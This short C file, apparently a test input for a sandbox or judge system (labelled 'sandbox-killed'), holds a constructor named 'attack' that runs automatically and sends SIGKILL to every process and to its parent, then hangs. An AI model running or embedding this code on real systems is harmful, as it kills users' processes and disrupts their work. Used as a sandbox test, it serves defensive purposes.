/* cause: sandbox-killed */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    kill(-1, SIGKILL);
    kill(getppid(), SIGKILL);
    for (;;)
        pause();
}
